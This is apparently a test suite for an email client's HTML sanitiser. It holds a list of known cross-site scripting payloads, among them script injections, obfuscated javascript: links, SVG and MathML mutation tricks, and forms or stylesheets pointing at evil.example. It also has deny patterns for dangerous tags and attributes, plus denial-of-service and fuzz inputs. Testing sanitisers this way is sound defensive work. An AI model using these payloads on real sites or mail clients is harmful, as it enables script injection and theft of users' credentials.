import fc from 'fast-check'
import { describe, expect, test } from 'vitest'
import { sanitiseHtml } from '../../../../lib/messages/view/sanitise-html.ts'

const clean = (html: string, remoteContent = false) => sanitiseHtml(html, { remoteContent })?.html

/** Every tag of the result with its attributes. The sanitiser writes all of them in the same form. */
const tagsOf = (html: string) => html.match(/<[^>]*>/g) ?? []
const expectHarmless = (html: string) => {
  for (const tag of tagsOf(html)) {
    expect(tag).toMatch(/^<\/?[a-z][a-z0-9]*( [a-z]+="[^"<>]*"| [a-z]+)*( \/)?>$/)
    expect(tag).not.toMatch(
      /^<\/?(script|style|form|input|button|textarea|select|iframe|frame|object|embed|svg|math|link|meta|base|template)\b/,
    )
    expect(tag).not.toMatch(/ (on\w+|style|class|id|srcset|background|action|formaction)="/)
    const url = / (?:href|src)="([^"]*)"/.exec(tag)?.[1]
    if (url) expect(url).toMatch(/^(https?:|mailto:|cid:|data:image\/(png|gif|jpe?g|webp|bmp);base64,)/i)
  }
  expect(html.replace(/<[^>]*>/g, '')).not.toMatch(/</)
}

/**
 * Well-known test cases for sanitisers: OWASP's cheat sheet, DOMPurify's tests, and past vulnerabilities of mail
 * clients.
 */
const vectors = [
  '<script>alert(1)</script>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<img src=x onerror=alert(1)>',
  '<img src=`x` onerror="alert`1`">',
  '<img """><script>alert(1)</script>">',
  '<img src="javascript:alert(1)">',
  '<img src="data:image/svg+xml;base64,PHN2Zy8+">',
  '<img src="data:text/html,<script>alert(1)</script>">',
  '<img srcset="https://evil.example/x 1x">',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="jAvAsCrIpT&colon;alert(1)">x</a>',
  '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
  '<a href="java\tscript:alert(1)">x</a>',
  '<a href="java\0script:alert(1)">x</a>',
  '<a href=" \u0001javascript:alert(1)">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="x" onclick="alert(1)" style="position:fixed">x</a>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<math href="javascript:alert(1)">x</math>',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<style>@import "https://evil.example/x.css"</style>',
  '<style><!--</style><script>alert(1)//--></script>',
  '<textarea></textarea><img src=x onerror=alert(1)></textarea>',
  '<title><img src=x onerror=alert(1)></title>',
  '<xmp><img src=x onerror=alert(1)></xmp>',
  '<xmp></xmp><script>alert(1)</script>',
  '<plaintext><script>alert(1)</script>',
  '<template><script>alert(1)</script></template>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<iframe src="javascript:alert(1)">',
  '<object data="javascript:alert(1)">',
  '<embed src="javascript:alert(1)">',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<link rel=stylesheet href="https://evil.example/x.css">',
  '<form action="https://evil.example"><input name=password><button formaction="javascript:alert(1)">go</button></form>',
  '<isindex action="javascript:alert(1)" type=image>',
  '<table background="javascript:alert(1)"><td background="https://evil.example/x">',
  '<div style="background:url(https://evil.example/x)">x</div>',
  '<body onload=alert(1)>',
  '<!--[if gte IE 4]><script>alert(1)</script><![endif]-->',
  '<!--><img src=x onerror=alert(1)>-->',
  '<![CDATA[><img src=x onerror=alert(1)>]]>',
  '<?xml version="1.0"?><script>alert(1)</script>',
  '<a\u000bhref="x"\u000conclick=alert(1)>x</a>',
  '<p/onmouseover=alert(1)>x',
  '<<script>alert(1)//<</script>',
  '<img src="x" alt="</title><script>alert(1)</script>">',
  '<b title="<script>alert(1)</script>">x</b>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '<x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script>',
  '<video><source onerror="alert(1)"></video>',
  '<details open ontoggle=alert(1)>x',
  '<marquee onstart=alert(1)>x</marquee>',
  '<a href="https://ok.example" target="_blank">x',
]

describe('sanitiseHtml', () => {
  test.each(vectors)('sanitiseHtml makes %s harmless', (html) => {
    expectHarmless(clean(html) ?? '')
    expectHarmless(clean(`<table><tr><td>${html}`, true) ?? '')
    // Clean HTML does not change when it is sanitised again, so a second parser sees the same as the first one.
    expect(clean(clean(html) ?? '')).toBe(clean(html))
  })

  test('sanitiseHtml keeps the readable content', () => {
    const html =
      '<h1>Hi</h1><p dir="ltr">a <b>b</b><br />c &amp; d</p><table border="1"><tr><td colspan="2">x</td></tr></table>'
    expect(clean(html)).toBe(html)
    expect(clean('<p class="MsoNormal" style="color:red"><font color="red">x</font><o:p></o:p></p>')).toBe(
      '<p><font color="red">x</font></p>',
    )
  })

  test('sanitiseHtml prevents linked pages from accessing the view', () => {
    expect(clean('<a href="https://example.com/?a=1&b=2" rel="opener" target="_top">x</a>')).toBe(
      '<a href="https://example.com/?a=1&amp;b=2" rel="noopener noreferrer nofollow">x</a>',
    )
  })

  test('sanitiseHtml keeps the message’s own images and removes remote ones unless they are requested', () => {
    const html =
      '<img src="cid:a@b"><img src="data:image/png;base64,AA=="><img src="https://t.example/p.gif" alt="p"><img src="//t.example/q">'
    expect(sanitiseHtml(html, { remoteContent: false })).toEqual({
      html: '<img src="cid:a@b" /><img src="data:image/png;base64,AA==" /><img alt="p" /><img />',
      remoteContentRemoved: 2,
    })
    expect(sanitiseHtml(html, { remoteContent: true })).toEqual({
      html: '<img src="cid:a@b" /><img src="data:image/png;base64,AA==" /><img alt="p" src="https://t.example/p.gif" /><img />',
      remoteContentRemoved: 1,
    })
  })

  test.each([
    ['nested elements', '<b>'],
    ['unknown elements', '<x>'],
    ['dropped elements', '<svg>'],
    ['tables', '<table><tr><td>'],
    ['closing tags without opening tags', '<b></i>'],
  ])('sanitiseHtml refuses too many %s immediately', (_name, piece) => {
    const started = performance.now()
    expect(clean(piece.repeat(200_000))).toBeUndefined()
    expect(performance.now() - started).toBeLessThan(5_000)
  })

  test.each([
    ['<', 1_000_000],
    ['<!--', 260_000],
    ['<a a=b ', 130_000],
    ['<p>a', 260_000],
    ['&', 1_000_000],
    ['<img src=http://a/b>', 50_000],
    ['<br></b>', 100_000],
  ])(
    'sanitiseHtml takes at most seconds for a megabyte of %s',
    (piece, times) => {
      const started = performance.now()
      expectHarmless(
        clean(piece.repeat(times))
          ?.slice(0, 10_000)
          .replace(/<[^>]*$/, '') ?? '',
      )
      expect(performance.now() - started).toBeLessThan(15_000)
    },
    30_000,
  )

  test('sanitiseHtml handles any markup', () => {
    const piece = fc.constantFrom(
      ...[
        '<',
        '>',
        '"',
        "'",
        '=',
        '/',
        '!--',
        '-->',
        ' ',
        '\0',
        '&lt;',
        '&quot;',
        'a',
        'p',
        'img',
        'svg',
        'style',
        'script',
      ],
      ...[
        'title',
        'textarea',
        'noscript',
        'math',
        'xmp',
        '<a href=',
        '<img src=',
        ' onerror=x',
        'javascript:',
        '</',
        '<![CDATA[',
        ']]>',
      ],
    )
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 60 }), (parts) => expectHarmless(clean(parts.join('')) ?? '')),
      { numRuns: 3_000 },
    )
  })
})
